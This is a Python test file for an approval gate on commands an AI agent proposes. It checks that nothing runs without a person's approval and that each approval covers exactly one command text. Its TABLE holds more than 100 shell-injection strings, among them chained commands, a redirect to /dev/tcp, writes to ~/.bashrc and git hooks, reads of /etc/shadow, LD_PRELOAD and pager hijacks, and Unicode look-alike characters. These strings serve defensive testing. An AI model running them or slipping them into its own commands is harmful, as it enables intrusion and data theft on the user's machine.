"""Nothing a model can write runs unapproved, and one approval is for one text: corpora, our own table, 64 at once."""

from __future__ import annotations

import random
import threading
from concurrent.futures import ThreadPoolExecutor
from functools import cache

import pytest

from manual_slop.safety.approval import Mode, Policy
from manual_slop.safety.approval_grants import Grants
from manual_slop.safety.approval_rules import Rule
from manual_slop.safety.gate import Passed
from manual_slop.safety.inbox import Inbox
from manual_slop.values.approval import Answer, Request
from manual_slop.values.cancel import Cancel
from tests.support.approvals import Hands, command, person
from tests.support.shared import shared_path

# Each looks like one of the first few, or like something harmless, and does something else.
TABLE = (
    "ls",
    "git status",
    "cat README.md",
    "echo ok",
    "pytest -q",
    # operators
    "ls; id",
    "ls && id",
    "ls || id",
    "ls | sh",
    "ls & id",
    "ls > ~/.bashrc",
    "ls >> .git/hooks/pre-commit",
    "ls < /etc/passwd",
    "ls 2>&1 >/dev/tcp/192.0.2.1/80",
    "cat <<< id | sh",
    "cat <<E | sh\nid\nE",
    "ls |& sh",
    "! ls",
    "{ ls; id; }",
    "(ls; id)",
    # substitutions
    "ls $(id)",
    "ls `id`",
    'ls "$(id)"',
    "ls ${HOME:-$(id)}",
    "ls $((a[$(id)]))",
    "cat <(id)",
    "ls >(sh)",
    "$(echo id)",
    "ls ${x:=`id`}",
    "ls $'\\x3b' id",
    "git${IFS}status;id",
    "ls ~+/../..",
    "ls {a,b}/../../x",
    # lines
    "ls\nid",
    "ls\rid",
    "ls\r\nid",
    "ls \\\nid",
    "ls # \nid",
    "ls\u2028id",
    "ls\x85id",
    "ls\x0bid",
    "ls\x00id",
    "ls" + "\n" * 200 + "id",
    "ls" + " " * 500 + "; id",
    # look-alikes
    "l\u0455",
    "ls\u200b",
    "ls\u00a0",
    "ls ",
    " ls",
    "LS",
    "\ufeffls",
    "ls\u202e di ;",
    "\x1b[2K\x1b[1Gls",
    "git\tstatus",
    "git  status",
    "git status\u037e id",
    # wrappers
    "env ls",
    "env -S 'sh -c id'",
    "timeout 1 sh -c id",
    "nohup sh -c id",
    "nice -n 1 sh -c id",
    "time sh -c id",
    "xargs -a x sh -c",
    "find . | xargs rm",
    "command ls",
    "exec ls",
    "eval ls",
    "builtin source x",
    "sudo ls",
    "setsid ls",
    "stdbuf -o0 sh -c id",
    "busybox sh -c id",
    "watch -x sh -c id",
    "ssh localhost ls",
    # unsafe flags of safe programs
    "find . -exec sh -c id ;",
    "find . -delete",
    "find . -fprintf x y",
    "rg --pre sh x",
    "rg --search-zip x",
    "sed -n 'w x' README.md",
    "sed '1e id' README.md",
    "sort -o x README.md",
    "sort --compress-program=sh README.md",
    "tar --checkpoint-action=exec=sh -cf x .",
    "tar -I sh -xf x",
    "git -c core.pager=sh log",
    "git -c core.fsmonitor=./x status",
    "git --exec-path=. status",
    "git diff --ext-diff",
    "git grep --open-files-in-pager=sh x",
    "awk 'BEGIN{system(\"id\")}'",
    "less +!id README.md",
    "man -P sh ls",
    "date -f /etc/shadow",
    "tee x",
    "dd if=/dev/zero of=x",
    "python -c 'import os'",
    "pytest -p x",
    "pytest -q --rootdir=/ x.py",
    "cat README.md -- /etc/passwd",
    # environment prefixes
    "PAGER=sh git log",
    "LD_PRELOAD=./x.so ls",
    "BASH_ENV=x bash -c ls",
    "GIT_SSH_COMMAND=sh git fetch",
    "PATH=.:$PATH ls",
    "PS4='$(id)' SHELLOPTS=xtrace ls",
    "export PAGER=sh; git log",
    "alias ls=id; ls",
    "ls() { id; }; ls",
    "IFS=/; ls",
    "PYTHONSTARTUP=x python",
)
ASKING: tuple[Mode, ...] = ("ask", "edits", "never")


@cache
def corpus() -> tuple[str, ...]:
    """Command injections as they are collected, one a line."""
    folder = shared_path("corpora", "paths", "commands")
    return tuple(line for path in sorted(folder.glob("*.txt")) for line in path.read_text("utf-8").splitlines())


def test_the_table_is_long_and_holds_no_line_twice():
    assert len(set(TABLE)) == len(TABLE) >= 100


@pytest.mark.parametrize("mode", ASKING)
def test_no_command_of_the_corpus_runs_unapproved(mode: Mode):
    lines = corpus()
    assert len(lines) == 531
    nothing_runs(mode, lines)


@pytest.mark.parametrize("mode", ASKING)
def test_no_command_of_our_table_runs_unapproved(mode: Mode):
    nothing_runs(mode, TABLE)


def nothing_runs(mode: Mode, lines: tuple[str, ...]) -> None:
    """With all that could be allowed allowed, and a person who refuses."""
    inbox = Inbox()
    asked: list[str] = []
    person(inbox, lambda request: asked.append(request.action.preview.text) or Answer("refuse"))
    rules = (Rule("allow"), Rule("allow", tool="run_*"), Rule("allow", risk="EXECUTE"))
    hands = Hands(Policy(mode, rules, tests_allowed=True), inbox)
    for line in lines:
        hands.attempt(command(line))
    assert hands.done == []
    assert asked == ([] if mode == "never" else list(lines))


def test_allowing_one_command_for_the_session_allows_no_other():
    for allowed in TABLE:
        grants = Grants()
        grants.add(command(allowed))
        inbox = Inbox()
        inbox.close()
        hands = Hands(Policy("edits"), inbox, grants)
        for line in TABLE:
            hands.attempt(command(line, call="later"))
        assert hands.done == [("s1", command(allowed).arguments)]


def test_allowing_some_of_the_corpus_allows_none_of_the_rest():
    lines = list(dict.fromkeys((*corpus(), *TABLE)))
    allowed, rest = lines[::2], lines[1::2]
    grants = Grants()
    for line in allowed:
        grants.add(command(line))
    assert len(grants) == len(allowed)
    assert not any(grants.covers(command(line)) for line in rest)
    assert all(grants.covers(command(line, call="later")) for line in allowed)


def test_of_64_sessions_asking_at_once_exactly_what_was_approved_runs():
    inbox = Inbox()
    hands = Hands(Policy(), inbox)
    desk = Desk(inbox, seed=20261122)
    cancels = [Cancel() for _ in range(64)]

    def session(number: int) -> None:
        for at in range(20):
            # The same text in every session: only the session and the call tell them apart.
            hands.attempt(command(f"make step{at}", session=f"s{number}", call=f"c{at}"), cancel=cancels[number])

    answerers = [threading.Thread(target=desk.work) for _ in range(4)]
    for answerer in answerers:
        answerer.start()
    with ThreadPoolExecutor(64) as pool:
        running = [pool.submit(session, number) for number in range(64)]
        for number in range(0, 64, 16):
            cancels[number].request()
        for future in running:
            future.result(100)
    desk.closing.set()
    for answerer in answerers:
        answerer.join(60)
    assert len(hands.done) == len(set(hands.done))
    # A session that was stopped may have been given a yes that came too late to be acted on.
    stopped = {f"s{number}" for number in range(0, 64, 16)}
    assert set(hands.done) <= desk.approved
    assert {one for one in desk.approved if one[0] not in stopped} <= set(hands.done)
    assert 300 < len(hands.done) < 900
    assert inbox.pending() == ()


class Desk:
    """Several people at one inbox who answer at random, also twice, also for the wrong thing."""

    def __init__(self, inbox: Inbox, seed: int) -> None:
        self.approved: set[tuple[str, str]] = set()
        self.closing = threading.Event()
        self._inbox = inbox
        self._random = random.Random(seed)
        self._lock = threading.Lock()
        self._waiting = threading.Semaphore(0)
        inbox.listen(lambda request, answer: self._waiting.release() if answer is None else None)

    def work(self) -> None:
        while not self.closing.is_set():
            self._waiting.acquire(timeout=0.05)
            pending = list(self._inbox.pending())
            self._random.shuffle(pending)
            for request in pending[:4]:
                self._answer(request)

    def _answer(self, request: Request) -> None:
        digest = request.action.digest
        assert not self._inbox.answer(request.id, command("something else").digest, Answer("approve"))
        yes = self._random.random() < 0.5
        with self._lock:
            if self._inbox.answer(request.id, digest, Answer("approve" if yes else "refuse")) and yes:
                self.approved.add((request.action.session_id, request.action.arguments))
        assert not self._inbox.answer(request.id, digest, Answer("approve"))


def test_in_mode_all_what_runs_is_what_was_asked_for():
    hands = Hands(Policy("all"), Inbox())
    assert all(isinstance(hands.attempt(command(line)), Passed) for line in TABLE)
    assert hands.done == [("s1", command(line).arguments) for line in TABLE]
